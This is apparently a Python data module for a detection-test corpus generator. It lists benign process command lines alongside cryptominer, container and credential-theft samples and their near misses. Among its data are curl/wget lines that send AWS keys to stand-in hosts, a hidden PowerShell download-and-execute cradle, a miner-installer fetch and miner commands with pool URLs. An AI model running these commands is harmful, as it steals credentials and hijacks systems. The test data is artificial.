"""Value catalogues of the corpus generator: benign processes, domains and addresses, and the
malicious values, false positives and near misses the scenarios draw from."""

from __future__ import annotations

# --------------------------------------------------------------------------------------------
# Value catalogues (benign)
# --------------------------------------------------------------------------------------------

# (path below the volume root, command line with {U} user / {N} number, parents, browser)
WIN_PROCS: tuple[tuple[str, str, tuple[str, ...], bool], ...] = (
    (
        r"Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
        ("services.exe",),
        False,
    ),
    (
        r"Windows\System32\svchost.exe",
        r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp",
        ("services.exe",),
        False,
    ),
    (
        r"Windows\System32\conhost.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
        ("cmd.exe", "powershell.exe"),
        False,
    ),
    (
        r"Windows\System32\cmd.exe",
        r'"C:\Windows\system32\cmd.exe" /c "C:\Users\{U}\scripts\backup.bat"',
        ("explorer.exe",),
        False,
    ),
    (
        r"Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile '
        r"-ExecutionPolicy Bypass -File C:\ProgramData\Intune\detect_{N}.ps1",
        ("svchost.exe", "AgentExecutor.exe"),
        False,
    ),
    (
        r"Program Files\Google\Chrome\Application\chrome.exe",
        r'"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer '
        r"--lang=en-US --renderer-client-id={N} --launch-time-ticks=88312{N}",
        ("chrome.exe",),
        True,
    ),
    (
        r"Program Files\Google\Chrome\Application\chrome.exe",
        r'"C:\Program Files\Google\Chrome\Application\chrome.exe" ',
        ("explorer.exe",),
        True,
    ),
    (
        r"Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility '
        r"--utility-sub-type=network.mojom.NetworkService --service-sandbox-type=none",
        ("msedge.exe",),
        True,
    ),
    (
        r"Program Files\Mozilla Firefox\firefox.exe",
        r'"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc -childID {N} '
        r"-isForBrowser -prefsLen 31337 tab",
        ("firefox.exe",),
        True,
    ),
    (
        r"Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r'"C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" ',
        ("explorer.exe",),
        False,
    ),
    (
        r"Users\{U}\AppData\Local\Microsoft\Teams\current\Teams.exe",
        r'"C:\Users\{U}\AppData\Local\Microsoft\Teams\current\Teams.exe" --system-initiated',
        ("explorer.exe", "Update.exe"),
        False,
    ),
    (
        r"Windows\System32\taskhostw.exe",
        r"taskhostw.exe KEYROAMING",
        ("svchost.exe",),
        False,
    ),
    (
        r"Windows\System32\rundll32.exe",
        r"C:\Windows\system32\rundll32.exe C:\Windows\system32\inetcpl.cpl,ClearMyTracksByProcess"
        r" Flags:{N} WinX:0 WinY:0 IEFrame:0000000000000000",
        ("svchost.exe",),
        False,
    ),
    (
        r"Windows\System32\PING.EXE",
        r"ping -n 3 10.20.{N}.1",
        ("cmd.exe",),
        False,
    ),
    (
        r"Program Files\Git\cmd\git.exe",
        r'"C:\Program Files\Git\cmd\git.exe" fetch --all --prune',
        ("Code.exe", "cmd.exe"),
        False,
    ),
    (
        r"Windows\System32\msiexec.exe",
        r"C:\Windows\system32\msiexec.exe /V",
        ("services.exe",),
        False,
    ),
    (
        r"Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
        ("svchost.exe",),
        False,
    ),
    (
        r"Windows\System32\SearchProtocolHost.exe",
        r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{N}_ '
        r"Global\UsGthrCtrlFltPipeMssGthrPipe{N} 1 -2147483646",
        ("SearchIndexer.exe",),
        False,
    ),
)

# (image, command line, parents, in a container)
LIN_PROCS: tuple[tuple[str, str, tuple[str, ...], bool], ...] = (
    (
        "/usr/bin/bash",
        "/bin/bash -c /usr/lib/update-notifier/package-data-downloader",
        ("cron",),
        False,
    ),
    ("/usr/bin/bash", "-bash", ("sshd",), False),
    (
        "/usr/bin/curl",
        "curl -fsSL https://api.github.com/repos/{U}/infra/releases/latest",
        ("bash",),
        False,
    ),
    (
        "/usr/bin/python3.11",
        "/usr/bin/python3 /usr/bin/unattended-upgrade --download-only",
        ("sh",),
        False,
    ),
    ("/usr/sbin/sshd", "sshd: {U} [priv]", ("sshd",), False),
    ("/usr/bin/systemctl", "systemctl is-active --quiet nginx.service", ("bash",), False),
    ("/usr/bin/apt-get", "apt-get -qq update", ("sudo",), False),
    ("/usr/bin/git", "git -C /srv/app pull --ff-only origin main", ("bash",), False),
    ("/usr/bin/sudo", "sudo -n /usr/bin/journalctl -u kubelet --since -5m", ("bash",), False),
    ("/usr/bin/grep", "grep -E ^(ERROR|WARN) /var/log/app/app-{N}.log", ("bash",), False),
    ("/usr/bin/containerd", "/usr/bin/containerd", ("systemd",), False),
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {C} "
        "-address /run/containerd/containerd.sock",
        ("containerd",),
        False,
    ),
    (
        "/usr/bin/runc",
        "runc --root /run/containerd/runc/k8s.io "
        "--log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{C}/log.json init",
        ("containerd-shim-runc-v2",),
        False,
    ),
    (
        "/usr/local/bin/python3.12",
        "python3 -m gunicorn app.wsgi:application --bind 0.0.0.0:8000 --workers 4",
        ("containerd-shim-runc-v2", "runc"),
        True,
    ),
    ("/usr/sbin/nginx", "nginx: worker process", ("containerd-shim-runc-v2", "runc"), True),
    (
        "/usr/local/bin/node",
        "node /app/dist/server.js --port 3000",
        ("containerd-shim-runc-v2", "runc", "conmon"),
        True,
    ),
    (
        "/bin/sh",
        "/bin/sh -c wget -q -O /tmp/health http://127.0.0.1:8080/healthz",
        ("containerd-shim-runc-v2", "runc"),
        True,
    ),
    (
        "/usr/bin/java",
        "java -Xms512m -Xmx2g -jar /opt/app/service.jar --spring.profiles.active=prod",
        ("containerd-shim-runc-v2", "conmon"),
        True,
    ),
    ("/usr/local/bin/redis-server", "redis-server *:6379", ("containerd-shim-runc-v2",), True),
)

MAC_PROCS: tuple[tuple[str, str, tuple[str, ...], bool], ...] = (
    ("/usr/libexec/xpcproxy", "xpcproxy com.apple.mdworker.shared.{N}", ("launchd",), False),
    ("/usr/bin/ssh", "ssh -T git@github.com", ("git",), False),
    ("/usr/bin/security", "security find-identity -v -p codesigning", ("zsh",), False),
    (
        "/Applications/Slack.app/Contents/MacOS/Slack",
        "/Applications/Slack.app/Contents/MacOS/Slack",
        ("launchd",),
        False,
    ),
    ("/usr/local/bin/brew", "/usr/local/bin/brew update --auto-update", ("zsh",), False),
)

DOMAINS = (
    "www.google.com",
    "login.microsoftonline.com",
    "settings-win.data.microsoft.com",
    "ocsp.digicert.com",
    "api.github.com",
    "registry-1.docker.io",
    "production.cloudflare.docker.com",
    "archive.ubuntu.com",
    "security.ubuntu.com",
    "s3.us-east-1.amazonaws.com",
    "ctldl.windowsupdate.com",
    "time.windows.com",
    "outlook.office365.com",
    "teams.microsoft.com",
    "cdn.jsdelivr.net",
    "pypi.org",
    "files.pythonhosted.org",
    "dc01.corp.example.com",
    "_ldap._tcp.dc._msdcs.corp.example.com",
    "wpad.corp.example.com",
    "slack.com",
    "edge.microsoft.com",
    "update.googleapis.com",
    "e{N}.dscx.akamaiedge.net",
    "ip-10-20-{N}-7.ec2.internal",
)
WIN_PORTS = (
    "443",
    "443",
    "443",
    "443",
    "80",
    "80",
    "53",
    "445",
    "135",
    "389",
    "88",
    "5985",
    "8080",
)
LIN_PORTS = ("443", "443", "443", "80", "53", "22", "123", "5432", "6379", "8443", "2379")
PUBLIC_FIRST_OCTETS = (
    3, 13, 18, 20, 23, 34, 35, 40, 44, 45, 51, 52, 54, 64, 66, 69, 91, 104, 107, 137, 140, 142,
    151, 157, 162, 185, 195, 199, 204, 216,
)  # fmt: skip
V6_PREFIXES = ("2606:4700:", "2a00:1450:4001:", "2620:1ec:", "2001:4860:4802:", "2a01:4f8:c17:")
USERS = (
    "jsmith", "a.nguyen", "mgarcia", "Administrator", "svc_backup", "kwilliams", "José.Ramírez",
    "Łukasz.Nowak", "priya.sharma", "ubuntu", "ec2-user", "root", "deploy", "o'brien",
)  # fmt: skip
WIN_CONFIG_BUILDS = ("1007.3.0018607.1", "1007.3.0018806.1", "1007.3.0017702.1")
LIN_CONFIG_BUILDS = ("1007.8.0018403.1", "1007.8.0018604.1")
MAC_CONFIG_BUILDS = ("1007.4.0018505.1",)

# --------------------------------------------------------------------------------------------
# Value catalogues (malicious and hard negatives)
# --------------------------------------------------------------------------------------------

WALLET = (
    "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5U"
    "zqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
)
LIN_MINER_IMAGES = (
    "/tmp/.X11-unix/.x/xmrig",
    "/var/tmp/xmrig-6.21.0/xmrig",
    "/usr/local/bin/xmrig-notls",
    "/tmp/XMRig",
    "/opt/cpuminer/cpuminer-multi",
    "/dev/shm/.m/minerd",
    "/tmp/.ICE-unix/teamtntbot",
    "/opt/lolMiner_v1.88/lolMiner",
    "/usr/bin/cgminer",
    "/usr/local/bin/bfgminer",
    "/opt/NBMiner_Linux/nbminer",
    "/opt/t-rex/t-rex",
    "/root/.local/ethminer",
)
WIN_MINER_IMAGES = (
    r"Users\{U}\AppData\Local\Temp\xmrig.exe",
    r"Users\{U}\AppData\Roaming\XMRig\XMRig.exe",
    r"ProgramData\PhoenixMiner\PhoenixMiner.exe",
    r"Users\Public\claymore\EthDcrMiner64.exe",
    r"Miners\T-Rex\t-rex.exe",
    r"Users\{U}\Downloads\cpuminer-opt\cpuminer-avx2.exe",
    r"Windows\Temp\cryptonight.exe",
    r"Users\{U}\Downloads\ethminer-0.18.0\bin\ethminer.exe",
)
MINER_ARGS_WITH_POOL = (
    "-o stratum+tcp://pool.supportxmr.com:3333 -u " + WALLET + " -p x --donate-level 1",
    "--url=stratum+ssl://gulf.moneroocean.stream:20128 --user " + WALLET + " --tls",
    "-a rx/0 -o pool.hashvault.pro:443 -u " + WALLET + " -k",
    "-o xmrpool.eu:3333 -u " + WALLET + " -p worker1 --cpu-max-threads-hint=75",
    "--algo ethash --server eth-eu1.nanopool.org:9999 --user 0x52bc44d5378309ee2abf1539bf71de1b",
    "-o STRATUM+TCP://xmr.pool.minergate.com:45560 -u miner@example.net -p x",
    "-o Stratum+Tcp://pool.minexmr.com:4444 -u " + WALLET + " --Donate-Level=0",
)
MINER_ARGS_BENIGN_LOOKING = (
    "--config=config.json",
    "-c /tmp/.x/config.json --background",
    "--help",
    "--cpu-priority 2 --threads 4",
)
# (image, command line) that alert only through the command line (renamed binaries etc.)
LIN_CMD_ONLY = (
    ("/tmp/.ICE-unix/kworkerds", "kworkerds -B -o stratum+tcp://45.9.148.21:3333 -u " + WALLET),
    ("/usr/bin/curl", "curl -s http://pool.minexmr.com:3333"),
    ("/usr/bin/bash", "bash -c 'echo supportxmr.com >> /etc/hosts.deny.bak'"),
    (
        "/usr/bin/wget",
        "wget -q -O- https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/setup_moneroocean_miner.sh",
    ),
    ("/usr/bin/gcc", "gcc -O2 -c -o pool.o src/pool.c"),
    (
        "/usr/local/bin/python3.12",
        "python3 /app/sync.py --endpoint stratum+ssl://hashvault.pro:443",
    ),
)
WIN_CMD_ONLY = (
    (r"Windows\Temp\svchost32.exe", r"C:\Windows\Temp\svchost32.exe -o xmrpool.eu:3333 -u {W} -k"),
    (
        r"Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString("
        r"'http://supportxmr.example-cdn.net/a.ps1')",
    ),
    (
        r"Windows\System32\cmd.exe",
        r'cmd.exe /c "C:\ProgramData\svc\run.exe --url stratum+tcp://nanopool.org:14444"',
    ),
)
POOL_DOMAINS = (
    "pool.minexmr.com",
    "pool.supportxmr.com",
    "xmr-eu1.nanopool.org",
    "eth-us-east1.nanopool.org",
    "stratum.f2pool.com",
    "ss.antpool.com",
    "pool.minergate.com",
    "xmr.pool.minergate.com",
    "xmrpool.eu",
    "pool.hashvault.pro",
    "gulf.moneroocean.stream",
    "POOL.SUPPORTXMR.COM",
    "Gulf.MoneroOcean.Stream",
    "pool.minexmr.com.",
)
NEAR_MISS_DOMAINS = (
    "minexmr.co",
    "nanopool.net",
    "supportxmr.co",
    "xmrpool.com",
    "minergate.com",
    "f2pool.co",
    "antpool.net",
    "hashvault.io",
    "moneroocean.net",
    "xmr-pool.net",
    "monero-ocean.stream",
    "pool.minexmr.co",
)
# Addresses the rule's cidr filter excludes (v4, v6).
PRIVATE_V4 = (
    "10.{a}.{b}.{c}",
    "10.{a}.{b}.{c}",
    "10.0.0.1",
    "172.{p}.{b}.{c}",
    "172.{p}.{b}.{c}",
    "172.16.0.1",
    "172.31.255.254",
    "192.168.{b}.{c}",
    "192.168.{b}.{c}",
    "127.0.0.1",
    "127.{a}.{b}.{c}",
)
PRIVATE_V6 = (
    "::1",
    "0:0:0:0:0:0:0:1",
    "fd12::1",
    "fd00:10:20::{h}",
    "fc00::{h}",
    "fe80::{h}:{h}:{h}:{h}",
    "febf::{h}",
    "FE80::1",
)
# Public but near the filtered ranges: the rule alerts on these.
BOUNDARY_PUBLIC_V4 = (
    "172.32.0.10",
    "172.15.255.250",
    "192.169.1.1",
    "11.0.0.1",
    "9.255.255.254",
    "128.0.0.1",
    "100.64.3.7",
)
BOUNDARY_PUBLIC_V6 = ("fec0::1", "fbff:ffff::1", "2001:db8::3333", "::ffff:1.2.3.4")
NON_POOL_PORTS = ("443", "80", "3389", "33333", "3332", "8443", "44444", "4443", "13334", "8080")
# Command lines of benign processes with port-like numbers or miner words outside the lists.
PORTLIKE_CMDS_LIN = (
    ("/usr/bin/nc", "nc -lvnp 3333"),
    ("/usr/bin/python3.11", "python3 -m http.server 4444 --bind 127.0.0.1"),
    ("/usr/local/bin/redis-server", "redis-server --port 7777 --protected-mode yes"),
    ("/usr/bin/pkill", "pkill -9 xmrig"),
    ("/usr/bin/rm", "rm -rf /tmp/xmrig-6.21.0 /tmp/config.json"),
    ("/usr/bin/docker", "docker pull xmrig/xmrig:latest"),
    ("/usr/bin/grep", "grep -c stratum /var/log/chrony/tracking.log"),
    ("/usr/sbin/zfs", "zfs create -o pool,rw tank/minerd-archive"),
    ("/usr/bin/ssh", "ssh -o PoolTimeout=5 -p 3334 backup@10.0.8.15"),
)
PORTLIKE_CMDS_WIN = (
    (
        r"Windows\System32\netsh.exe",
        r"netsh advfirewall firewall add rule name=app dir=in localport=3333 action=allow",
    ),
    (r"Windows\System32\cmd.exe", r'cmd.exe /c "echo stratum pools blocked by policy 4444"'),
    (r"Windows\System32\taskkill.exe", r"taskkill /F /IM xmrig.exe /T"),
    (r"Windows\System32\mstsc.exe", r"mstsc.exe /v:203.0.113.9:3389"),
)

# --------------------------------------------------------------------------------------------
# Containers: the Atomic Red Team T1204.003 stories, tuning false positives and near misses
# --------------------------------------------------------------------------------------------

# Full paths of parent processes (Falcon ParentImageFileName, Sysmon ParentImage), by base name.
LIN_PARENT_PATHS = {
    "bash": "/usr/bin/bash",
    "sh": "/usr/bin/dash",
    "cron": "/usr/sbin/cron",
    "sshd": "/usr/sbin/sshd",
    "sudo": "/usr/bin/sudo",
    "systemd": "/usr/lib/systemd/systemd",
    "containerd": "/usr/bin/containerd",
    "containerd-shim-runc-v2": "/usr/bin/containerd-shim-runc-v2",
    "containerd-shim": "/usr/bin/containerd-shim",
    "runc": "/usr/bin/runc",
    "dockerd": "/usr/bin/dockerd",
    "conmon": "/usr/bin/conmon",
    "crun": "/usr/bin/crun",
    "git": "/usr/bin/git",
    "zsh": "/bin/zsh",
    "launchd": "/sbin/launchd",
    "xmrig": "/tmp/.x/xmrig",
    "cpuminer": "/opt/cpuminer/cpuminer",
}
RUNTIME_PARENTS = ("containerd-shim-runc-v2", "containerd-shim-runc-v2", "runc", "containerd-shim")
# Parents of container processes the rules do not count as runtimes (podman's conmon, crun), or
# that only look like one.
NEAR_RUNTIME_PARENTS = ("conmon", "crun")
NEAR_RUNTIME_PARENT_PATHS = (
    "/usr/bin/conmon",
    "/usr/bin/crun",
    "/usr/local/bin/runc-wrapper",
    "/usr/bin/dockerd-rootless.sh",
    "/usr/bin/containerd-stress",
)
# Pulling and running an image (Atomic test 3): the command that starts it.
DOCKER_RUN_CMDS = (
    "docker run --rm -d --name web-{N} docker.io/{U}/nginx-alpine:latest",
    "docker run -d --restart=always --name monitor-{N} ghcr.io/sys-tools/node-exporter:1.7",
    "nerdctl run -d --name sync-{N} docker.io/library/alpine-utils:3.19",
    "ctr -n k8s.io run -d docker.io/pypi-cache/mirror:2.1 mirror-{N}",
)
# wget / curl started by the runtime that fetch from the local pool port (Atomic test 3).
LOOPBACK_FETCH_CMDS = (
    "wget -q -O- http://127.0.0.1:3333/",
    "wget -qO /tmp/.cache/k http://127.0.0.1:3333/k",
    "curl -s http://127.0.0.1:3333/config.json -o /tmp/config.json",
)
# Credentials on a downloader's command line (Atomic test 5): {K} key id, {S} secret, {T} token.
EXFIL_HOSTS = (
    "collect.cloud-metrics-sync.net",
    "paste.gtfo-bin.org",
    "203.0.113.77",
    "api.telemetry-eu.xyz",
    "45.9.148.99:8080",
)
CREDENTIAL_EXFIL_CMDS = (
    "curl -s -X POST https://{H}/c -d AWS_ACCESS_KEY_ID={K}&AWS_SECRET_ACCESS_KEY={S}",
    "curl -fsS --data-urlencode AWS_ACCESS_KEY_ID={K} --data-urlencode "
    "AWS_SECRET_ACCESS_KEY={S} --data-urlencode AWS_SESSION_TOKEN={T} http://{H}/u",
    "wget -q -O- --post-data=AWS_ACCESS_KEY_ID={K}&AWS_SECRET_ACCESS_KEY={S} http://{H}/k",
    'wget -qO- "http://{H}/?AWS_ACCESS_KEY_ID={K}&AWS_SECRET_ACCESS_KEY={S}"',
    "curl -sk https://{H}/x -H 'X-Env: AWS_SECRET_ACCESS_KEY={S}'",
)
AWS_KEY_IDS = ("AKIAIOSFODNN7EXAMPLE", "ASIAY34FZKBOKMUTVV7A", "AKIAI44QH8DHBEXAMPLE")
AWS_SECRETS = (
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "je7MtGbClwBF/2Zp9Utk/h3yCo8nvbEXAMPLEKEY",
)
# Tuning false positives of the container rules: the rules fire, nothing is wrong.
HEALTHCHECK_CMDS = (
    ("/usr/bin/curl", "curl -fsS http://127.0.0.1:8080/healthz"),
    ("/usr/bin/curl", "curl -sf http://localhost:9090/-/ready"),
    ("/usr/bin/wget", "wget -q --spider http://127.0.0.1:8080/health"),
    ("/usr/bin/curl", "curl --fail --silent --max-time 2 http://127.0.0.1:3000/api/health"),
    ("/usr/bin/wget", "wget -qO /work-dir/app.yaml http://config.svc.cluster.local/app/prod.yaml"),
    ("/usr/bin/curl", "curl -fsSL https://deb.nodesource.com/setup_20.x -o /tmp/nodesource.sh"),
)
ARTIFACT_UPLOAD_CMDS = (
    "curl -sf -X PUT -H 'AWS_ACCESS_KEY_ID: {K}' -T build.tgz "
    "https://artifacts.corp.example.com/releases/app-{N}.tgz",
    "curl -sf -u AWS_ACCESS_KEY_ID:{K} https://nexus.corp.example.com/repository/raw/app-{N}.tgz",
)
# Credentials on command lines the rule must not count: not a downloader, or not a container.
CREDENTIAL_NEAR_MISS = (
    ("/usr/local/bin/aws", "aws configure set aws_access_key_id {K}"),
    ("/usr/bin/env", "env AWS_ACCESS_KEY_ID={K} AWS_SECRET_ACCESS_KEY={S} /app/sync --once"),
    ("/usr/bin/printenv", "printenv AWS_SESSION_TOKEN"),
)
CREDENTIAL_HOST_CMDS = (
    "curl -s https://sts.amazonaws.com/?Action=GetCallerIdentity -H 'AWS_SESSION_TOKEN: {T}'",
    "wget -q -O- http://169.254.169.254/latest/meta-data/iam/info?AWS_ACCESS_KEY_ID={K}",
)
# Downloaders whose image only looks like wget / curl.
NEAR_DOWNLOADER_IMAGES = (
    "/bin/busybox",  # busybox applets run as /bin/busybox: `wget` in Alpine images
    "/usr/bin/wget2",
    "/usr/bin/curl-config",
    "/usr/local/bin/curlie",
    "/usr/bin/wget.sh",
    "/opt/tools/bin/curl_healthcheck",
)
# Documentation, tickets and scripts that quote pool names (MinerCommandLineArgs' documented
# false positive), sanctioned mining, and unrelated paths with short miner names.
DOC_QUOTE_CMDS_LIN = (
    ("/usr/bin/grep", "grep -rn stratum+tcp /etc/ /opt/"),
    ("/usr/bin/less", "less /srv/wiki/incidents/INC-{N}-supportxmr.md"),
    ("/usr/bin/vim", "vim /home/{U}/notes/blocklist-moneroocean-nanopool.txt"),
    ("/usr/bin/python3.11", "python3 /opt/ti/feeds.py --add-domain hashvault.pro"),
)
DOC_QUOTE_CMDS_WIN = (
    (
        r"Windows\System32\notepad.exe",
        r'"C:\Windows\system32\NOTEPAD.EXE" C:\Users\{U}\Documents\xmrpool-incident.txt',
    ),
    (
        r"Windows\System32\findstr.exe",
        r'findstr /s /i "stratum+tcp" C:\ProgramData\Agent\logs\*.log',
    ),
)
SANCTIONED_MINER = (
    "/opt/mining/xmrig-6.21.0/xmrig",
    "/opt/mining/xmrig-6.21.0/xmrig -c /etc/xmrig/rig.json --donate-level 0",
    "systemd",
)
SHORT_NAME_IMAGES_WIN = (
    r"Program Files\ClaymoreSoft\Claymore Backup\ClaymoreBackup.exe",
    r"Program Files (x86)\T-Rex Games\t-rex-runner.exe",
)
SHORT_NAME_IMAGES_LIN = ("/usr/games/t-rex-runner", "/opt/claymore-backup/bin/cbackupd")
# Files and binaries that carry miner words in fields or event types no rule reads.
NO_RULE_CMDS_LIN = (
    ("/usr/bin/vim", "vim /opt/xmrig/config.json"),
    ("/usr/bin/yara", "yara -r /opt/rules/xmrig.yar /tmp"),
    ("/usr/bin/clamscan", "clamscan --infected /tmp/xmrig /var/tmp/minerd"),
)
# Windows browsers (the rule's filter) and Linux browsers (which it does not know).
WIN_BROWSERS = (
    r"C:\Program Files\Google\Chrome\Application\chrome.exe",
    r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
    r"C:\Program Files\Mozilla Firefox\firefox.exe",
    r"C:\Users\{U}\AppData\Local\BraveSoftware\Brave-Browser\Application\brave.exe",
    r"C:\Users\{U}\AppData\Local\Programs\Opera\opera.exe",
    r"C:\Program Files\Internet Explorer\iexplore.exe",
    r"C:\PROGRAM FILES\GOOGLE\CHROME\APPLICATION\CHROME.EXE",
)
LIN_BROWSERS = (
    "/usr/lib/firefox/firefox",
    "/opt/google/chrome/chrome",
    "/snap/firefox/4173/usr/lib/firefox/firefox",
)
# A miner renamed to a browser's file name: the browser filter drops its pool connection.
RENAMED_AS_BROWSER = (
    r"C:\Users\{U}\AppData\Local\Temp\chrome.exe",
    r"C:\ProgramData\Update\msedge.exe",
    r"C:\Users\Public\updchrome.exe",
)
# Public services on pool ports that are not pools (the rule's false positives).
BITCOIN_NODE = ("/usr/local/bin/bitcoind", "bitcoind -daemon -conf=/etc/bitcoin/bitcoin.conf")
IPV4_MAPPED = ("::ffff:10.20.{b}.{c}", "::ffff:192.168.{b}.{c}", "::ffff:127.0.0.1", "::ffff:{P}")

# --------------------------------------------------------------------------------------------
# Sysmon
# --------------------------------------------------------------------------------------------

SYSMON_PROVIDER_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
# Windows parents by base name: (image, command line).
WIN_PARENTS = {
    "services.exe": (r"C:\Windows\System32\services.exe", r"C:\Windows\system32\services.exe"),
    "explorer.exe": (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
    "cmd.exe": (r"C:\Windows\System32\cmd.exe", '"C:\\Windows\\system32\\cmd.exe" '),
    "powershell.exe": (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
    ),
    "svchost.exe": (
        r"C:\Windows\System32\svchost.exe",
        r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
    ),
    "AgentExecutor.exe": (
        r"C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe",
        '"C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe" '
        "-powershell",
    ),
    "chrome.exe": (
        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" ',
    ),
    "msedge.exe": (
        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
        '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" ',
    ),
    "firefox.exe": (
        r"C:\Program Files\Mozilla Firefox\firefox.exe",
        '"C:\\Program Files\\Mozilla Firefox\\firefox.exe" ',
    ),
    "Update.exe": (
        r"C:\Users\{U}\AppData\Local\Microsoft\Teams\Update.exe",
        '"C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Teams\\Update.exe" --processStart Teams.exe',
    ),
    "Code.exe": (
        r"C:\Users\{U}\AppData\Local\Programs\Microsoft VS Code\Code.exe",
        '"C:\\Users\\{U}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" ',
    ),
    "SearchIndexer.exe": (
        r"C:\Windows\System32\SearchIndexer.exe",
        r"C:\Windows\system32\SearchIndexer.exe /Embedding",
    ),
    "wscript.exe": (
        r"C:\Windows\System32\wscript.exe",
        r'"C:\Windows\System32\WScript.exe" "C:\Users\{U}\Downloads\invoice.js"',
    ),
    "wmiprvse.exe": (
        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
        r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding",
    ),
}
# (description, product, company) of Windows images, by lower-case base name.
WIN_VERSION_INFO = {
    "svchost.exe": ("Host Process for Windows Services", "Microsoft® Windows® Operating System"),
    "conhost.exe": ("Console Window Host", "Microsoft® Windows® Operating System"),
    "cmd.exe": ("Windows Command Processor", "Microsoft® Windows® Operating System"),
    "powershell.exe": ("Windows PowerShell", "Microsoft® Windows® Operating System"),
    "chrome.exe": ("Google Chrome", "Google Chrome"),
    "msedge.exe": ("Microsoft Edge", "Microsoft Edge"),
    "firefox.exe": ("Firefox", "Firefox"),
    "outlook.exe": ("Microsoft Outlook", "Microsoft Outlook"),
    "teams.exe": ("Microsoft Teams", "Microsoft Teams"),
    "taskhostw.exe": ("Host Process for Windows Tasks", "Microsoft® Windows® Operating System"),
    "rundll32.exe": ("Windows host process (Rundll32)", "Microsoft® Windows® Operating System"),
    "ping.exe": ("TCP/IP Ping Command", "Microsoft® Windows® Operating System"),
    "git.exe": ("Git for Windows", "Git"),
    "msiexec.exe": ("Windows® installer", "Windows Installer - Unicode"),
    "wmiprvse.exe": ("WMI Provider Host", "Microsoft® Windows® Operating System"),
    "curl.exe": ("The curl executable", "The curl executable"),
    "xmrig.exe": ("XMRig miner", "XMRig"),
}
WIN_COMPANIES = {
    "chrome.exe": "Google LLC",
    "firefox.exe": "Mozilla Corporation",
    "git.exe": "The Git Development Community",
    "curl.exe": "curl, https://curl.se/",
    "xmrig.exe": "www.xmrig.com",
}
WIN_DLLS = (
    r"C:\Windows\System32\ntdll.dll",
    r"C:\Windows\System32\kernel32.dll",
    r"C:\Windows\System32\crypt32.dll",
    r"C:\Windows\System32\winhttp.dll",
    r"C:\Windows\System32\amsi.dll",
    r"C:\Windows\System32\bcrypt.dll",
    r"C:\Windows\System32\wldp.dll",
)
WIN_REGISTRY = (
    (r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\{S}\{I}", "Binary Data"),
    (r"HKU\{S}\Software\Microsoft\Windows\CurrentVersion\Explorer\UserAssist\Count", "Binary Data"),
    (
        r"HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignatureType",
        "DWORD (0x00000001)",
    ),
    (
        r"HKLM\System\CurrentControlSet\Services\W32Time\Config\LastKnownGoodTime",
        "QWORD (0x01da-0x4c2b1e00)",
    ),
)
WIN_FILES = (
    r"C:\Users\{U}\AppData\Local\Temp\{N}.tmp",
    r"C:\Windows\Prefetch\SVCHOST.EXE-{N}.pf",
    r"C:\Users\{U}\AppData\Local\Microsoft\Windows\INetCache\IE\{N}\favicon[1].ico",
    r"C:\ProgramData\Microsoft\Windows Defender\Scans\History\CacheManager\{N}.bin",
)
LIN_FILES = (
    "/var/lib/kubelet/pods/{N}/volumes/kubernetes.io~projected/kube-api-access/..data",
    "/var/log/journal/{N}.journal~",
    "/tmp/pip-build-env-{N}/setup.py",
    "/run/containerd/io.containerd.runtime.v2.task/k8s.io/{C}/rootfs",
    "/var/cache/apt/archives/partial/libssl3_{N}_amd64.deb",
)
LIN_SYSMON_PROCS = (
    ("/usr/bin/ps", "ps -eo pid,ppid,comm", ("bash",), False),
    ("/usr/bin/cat", "cat /proc/meminfo", ("sh",), False),
    (
        "/usr/bin/kubelet",
        "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml",
        ("systemd",),
        False,
    ),
    ("/usr/bin/pause", "/pause", ("containerd-shim-runc-v2",), True),
)
